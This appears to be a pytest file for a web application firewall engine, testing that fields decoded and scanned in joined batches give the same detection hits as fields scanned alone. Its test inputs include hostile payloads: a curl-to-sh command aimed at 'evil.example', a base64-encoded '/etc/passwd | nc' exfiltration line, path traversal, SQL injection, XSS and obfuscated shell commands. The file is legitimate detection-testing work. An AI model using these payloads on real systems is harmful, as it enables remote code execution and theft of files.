def test_literals_every_text_holds_are_not_looked_for_text_by_text(
    bundled_signatures: tuple[Signature, ...], texts: list[str], looked_at_most: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A signature whose every literal group has a literal in every text of some form is held by
    each text at once; a literal only some texts hold is still looked for in each, and every text
    keeps exactly what it needs."""
    from firewall.engine import batching

    monkeypatch.setattr(batching, "SPARSE_HITS", 10**9)  # the dense path, where texts share anchors
    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    looked_at: list[str] = []
    held = RuleSet.held

    def spy(self: RuleSet, indices: set[int], lowered: str) -> set[int]:
        looked_at.append(lowered)
        return held(self, indices, lowered)

    acting = frozenset({"url_decode"})
    with monkeypatch.context() as patched:
        patched.setattr(RuleSet, "held", spy)
        group = batching.group_candidates(rules, texts, acting)
    assert group is not None
    assert len(looked_at) <= looked_at_most  # not every text by itself
    for text, found in zip(texts, group.candidates, strict=True):
        _assert_sound_candidates(rules, text, found, _alone(rules, text, acting))
    assert any(found - rules.always for found in group.candidates)


def test_decoders_woken_by_decoding_join_the_group(bundled_signatures: tuple[Signature, ...]) -> None:
    """`%26lt%3B` decodes into an HTML reference: the group is decoded with the HTML decoder too,
    still joined, and each text keeps the candidates it needs."""
    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    texts = [f"%26lt%3Bscript%26gt%3Balert({i})" for i in range(20)] + ["%26lt%3Bb%26gt%3B"]
    batched = _joined_like_each_text(rules, texts, frozenset({"url_decode"}))
    assert batched.reduced_to == {"url_decode", "html_entity_decode"}
    assert _ids(_scan(list(bundled_signatures), [(f"f{i}", t) for i, t in enumerate(texts)]))


def test_texts_that_decode_to_newlines_are_joined_by_a_control_character(
    bundled_signatures: tuple[Signature, ...],
) -> None:
    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    texts = [f"line%0a{i}%0d%0aunion%0aselect" for i in range(10)] + ["a%0a%0ab", "%0a"]
    batched = _joined_like_each_text(rules, texts, frozenset({"url_decode"}))
    assert batched.reduced_to == {"url_decode", "compress_whitespace"}


def test_texts_that_decode_to_other_whitespace_wake_its_compression(
    bundled_signatures: tuple[Signature, ...],
) -> None:
    """A tab made by decoding, inside one text of a newline-joined group, wakes the decoder as two
    spaces do."""
    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
    for made in ("%09", "%20%20"):
        texts = [f"union{made}select+{i}" for i in range(10)]
        batched = _joined_like_each_text(rules, texts, frozenset({"url_decode"}))
        assert batched.reduced_to == {"url_decode", "compress_whitespace"}, made


@pytest.mark.parametrize(
    ("attacks", "repeat_every"),
    [([], 0), ([2_500], 0), ([10, 11, 4_000, 4_999], 0), (list(range(100, 4_900, 700)), 0), ([3_000], 50)],
)
def test_fields_of_a_group_searched_as_a_slice_give_what_they_give_one_by_one(
    bundled_signatures: tuple[Signature, ...], attacks: list[int], repeat_every: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Thousands of fields decoded in one group are searched as slices of the group's output; the
    hits (which fields, in order, up to the reported limit) are those of a search field by field.
    A repeated text breaks a run of the group's texts: runs shorter than a slice go field by field."""
    from firewall.engine import search

    rules = compile_signatures(bundled_signatures, paranoia=1)
    fields: list[tuple[str, str | bytes]] = [(f"items[{i}]", f"50%25 off {i:05d}") for i in range(5_000)]
    for i in range(repeat_every, len(fields), repeat_every or len(fields)):
        fields[i] = (f"items[{i}]", "50%25 off 00000")
    for i in attacks:
        fields[i] = (f"items[{i}]", f"%27 or 1=1-- {i:05d}")
    sliced = inspect_fields(rules, fields)
    monkeypatch.setattr(search, "MIN_GROUP_RUN", 10**9)
    one_by_one = inspect_fields(rules, fields)
    assert sliced.error is None and one_by_one.error is None
    assert [(h.path, h.signature.index, h.excerpt) for h in sliced.hits] == [
        (h.path, h.signature.index, h.excerpt) for h in one_by_one.hits
    ]
    assert {h.path for h in sliced.hits} == {f"items[{i}]" for i in attacks[:MAX_PATHS_PER_SIGNATURE]}


UNHURRIED = Limits(regex_timeout=5.0, record_budget=60.0)
"""For tests of which fields thousands-strong floods yield, not of how fast: late in the whole suite
the garbage collector, tracking every object earlier tests left, took one of them past the default
2 s of CPU. Speed is `bench/performance.py`'s to measure."""


def test_a_repeated_attack_inside_a_long_run_of_a_group_is_searched_as_itself(
    bundled_signatures: tuple[Signature, ...],
) -> None:
    """A text repeated thousands of fields later belongs to the group at its first place: the run
    of the group's texts breaks there, and that field is searched as its own text, not as the
    group's next one. (Every `%25` text is a candidate of FW-LFI-003, so its fields form runs.)"""
    rules = compile_signatures(bundled_signatures, paranoia=1)
    texts = [f"50%25 off {i:05d}" for i in range(5_000)]
    texts[10] = texts[2_000] = "..%252f..%252f..%252fetc%252fpasswd"
    hits = inspect_fields(rules, [(f"items[{i}]", text) for i, text in enumerate(texts)], UNHURRIED).hits
    assert {h.path for h in hits if h.signature.signature.id == "FW-LFI-003"} == {"items[10]", "items[2000]"}


@pytest.mark.parametrize(
    ("form", "attack"),
    [
        ("it's {:05d}", "x';curl${IFS}http://evil.example/x|sh;'"),
        # \\1 to \\39 decode to control characters and newlines: the group takes stand-in separators
        ("\\\\{}x", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
    ],
)
def test_an_attack_among_thousands_of_decoded_fields_is_found(
    bundled_signatures: tuple[Signature, ...], form: str, attack: str
) -> None:
    """20,000 texts with an apostrophe or escapes are scanned joined; the one attack among them
    still fires."""
    rules = compile_signatures(bundled_signatures, paranoia=1)
    fields: list[tuple[str, str | bytes]] = [(f"items[{i}]", form.format(i)) for i in range(20_000)]
    fields[12_345] = ("items[12345]", attack)
    findings = inspect_fields(rules, fields, UNHURRIED)
    assert findings.error is None
    assert {hit.path for hit in findings.hits} == {"items[12345]"}


def test_one_text_that_cannot_be_joined_leaves_the_rest_of_its_group_joined(
    bundled_signatures: tuple[Signature, ...],
) -> None:
    """A group is halved around a text that cannot be joined (decoded, it holds every separator):
    only a few texts end up examined one by one, and every text keeps the candidates it needs."""
    from firewall.engine.matcher import SMALLEST_SPLIT, _joined_parts
    from firewall.engine.screen import Allowance

    rules = compile_signatures(bundled_signatures, paranoia=1, screen=False)
    texts = [f"50% of {i:04d}" for i in range(1000)]
    texts[617] = EVERY_SEPARATOR
    acting = frozenset({"url_decode"})
    parts = _joined_parts(rules, texts, acting, Allowance())
    alone = [text for part, batched in parts if batched is None for text in part]
    assert EVERY_SEPARATOR in alone and len(alone) <= SMALLEST_SPLIT
    assert sorted(text for part, _ in parts for text in part) == sorted(texts)
    for part, batched in parts:
        for text, candidates in zip(part, batched.candidates if batched else [None] * len(part), strict=True):
            if candidates is not None:
                _assert_sound_candidates(rules, text, candidates, _alone(rules, text, acting))


@pytest.mark.parametrize(
    "targets",
    [["*.{}"], ["s3.key"], ["*constructor.{}", "*constructor.prototype.{}"], ["items[[]1]*"], ["*.a1"], ["x?.y"],
     ["*1*"], ["*[[]1*"], ["x*3]*"]],
)
def test_targets_across_list_positions(make_sig: SigFactory, targets: list[str]) -> None:
    """Paths may be looked up with list positions folded together (where no target glob could
    tell them apart); whether a target covers a path must not change."""
    from fnmatch import fnmatchcase

    rules = compile_signatures([make_sig(targets=targets), make_sig(id="FW-UNIT-002", targets=["any"])])
    paths = ["s3.key", "body.items[12345].{}", "body.items[2].name", "items[1].x", "items[2].x", "x[3].a1"]
    paths += ["a.constructor.{}", "q[7].constructor.prototype.{}", "x1.y", "x[0].y", "body.{}", "k[13].v", "x[3].y"]
    for _ in range(2):  # the second lookup comes from the cache
        for path in paths:
            covered = any(fnmatchcase(path, glob) for glob in targets)
            assert (0 not in rules.excluded_at(path)) is covered, (targets, path)


def test_a_joined_group_gives_each_text_what_its_full_chains_give(bundled_signatures: tuple[Signature, ...]) -> None:
    """The regex stage takes a grouped field's subject from the group's joined decoding: for every
    chain, it must be what the full chain makes of the text alone."""
    from firewall.engine.batching import group_candidates
    from firewall.engine.transforms import apply_chain

    rules = compile_signatures(bundled_signatures, paranoia=4)
    groups = {
        # Decoded, a text ending with a backslash still ends with it: its separator is not escaped.
        frozenset({"url_decode"}): ["a%0ab", "50% off", "x+y%2Bz", "%26lt%3Bb%26gt%3B", "%2541", "a%5c", "b%5c%5c%5c"],
        frozenset({"cmdline_normalize"}): [
            "it's", "c'a't /e\"t\"c/passwd", "{cat,/etc/passwd}", "a^b", "c$u'at'", "w${u}get", "cu$()rl",
            "a$'x", "y'b",  # an ANSI-C quote left open must not close in the next text
        ],
        # An expansion left open at a text's end must not close in the next one (a percent sign
        # keeps this group apart from the one above).
        frozenset({"cmdline_normalize", "url_decode"}): [
            "a${x%", "'b:-}c%", "$IFS%x%", "'y}z%", "${IFS}cat%", "${a:-}b%",
        ],
        frozenset({"unicode_nfkc"}): ["ＳＥＬＥＣＴ", "Chloé", "ﬁle"],
        # A comment left open runs to the end of its own text only.
        frozenset({"remove_sql_comments"}): ["x/*open", "/*c*/close*/y", "/*!50000union*/ select", "a/**/b"],
        frozenset({"js_decode", "css_decode", "path_normalize", "cmdline_normalize"}): [
            "a\\tb", "\\x3cscript\\x3e", "\\u0027 or 1=1", "c:\\windows\\win.ini", "\\\\\\\\x",
            "odd\\", "even\\\\", "three\\\\\\", "\\\\134",  # a final backslash escapes nothing
            "$'\\x77get'", "$'\\",
        ],
        # A line continuation is undone within a text: never across the separator.
        frozenset({"js_decode", "css_decode", "path_normalize", "cmdline_normalize", "compress_whitespace"}): [
            "wg\\\net x", "a\\\nb\\", "x\ny\\",
        ],
        frozenset({"base64_decode", "html_entity_decode"}): [
            "Y2F0IC9ldGMvcGFzc3dkIHwgbmMgZXZpbCA0NDQ0 &amp; more",
            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== &lt;b&gt;",
            "QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB&amp;PHN2Zz4=",
            "not-base64-at-all_but_long_enough_anyway &amp;",
        ],
    }
    for acting, texts in groups.items():
        group = group_candidates(rules, texts, acting)
        assert group is not None, acting
        for number, text in enumerate(texts):
            for chain in rules.chain_members:
                subject = group.subject(number, rules.reduced(chain, group.reduced_to))
                assert subject == apply_chain(chain, text), (text, chain)


@pytest.mark.parametrize(
    "texts",
    [
        # A CSS escape takes the newline after `\41` while `\a ` makes one: the count of newlines
        # stays the same, and the texts would shift by one.
        ["\\41", "a{behaviour:\\a url(x.htc)}"],
        # Percent-decoding makes `${`, whose normalisation could run into the next text.
        ["%24%7Bx%0a", "y:-%7D a'b"],
        ["$IFS%%x'", "y'z"],
    ],
)
def test_a_decoding_that_could_take_in_a_separator_is_refused(
    bundled_signatures: tuple[Signature, ...], texts: list[str]
) -> None:
    """Fields judged together get exactly what each gets alone, whichever way their group goes."""
    from firewall.engine.transforms import apply_chain

    rules = compile_signatures(bundled_signatures, paranoia=4)
    fields: list[tuple[str, str | bytes]] = [(f"f{i}", text) for i, text in enumerate(texts)]
    together = {(hit.signature.signature.id, hit.path) for hit in inspect_fields(rules, fields).hits}
    alone = {
        (hit.signature.signature.id, hit.path)
        for path, text in fields
        for hit in inspect_fields(rules, [(path, text)]).hits
    }
    assert together == alone
    if texts[0] == "\\41":
        assert ("FW-XSS-016", "f1") in together
        assert apply_chain(("css_decode",), texts[1]) == "a{behaviour:\nurl(x.htc)}"


def test_a_neighbour_cannot_hide_a_command_by_shifting_the_separators(
    bundled_signatures: tuple[Signature, ...],
) -> None:
    """`$(` + newline + `)` is an empty expansion, but in texts joined by newlines that newline is
    the separator: taken in while `$'\\U0000000a'` makes another, the count of separators held and
    every later text was cut in the wrong place, so `whoami` fell out of its field. Each text must
    get the hits it gets alone, whatever its neighbours."""
    rules = compile_signatures(bundled_signatures, paranoia=1)
    attack = "$'\\U0000000a'$'" + "\\" * 32 + "U0000000a'whoami $("
    alone = {hit.signature.signature.id for hit in inspect_fields(rules, [("a", attack)]).hits}
    assert alone
    for neighbour in [")x\\y", ")", ") ls", "x"]:
        together = inspect_fields(rules, [("a", attack), ("b", neighbour)])
        assert {hit.signature.signature.id for hit in together.hits if hit.path == "a"} == alone, neighbour
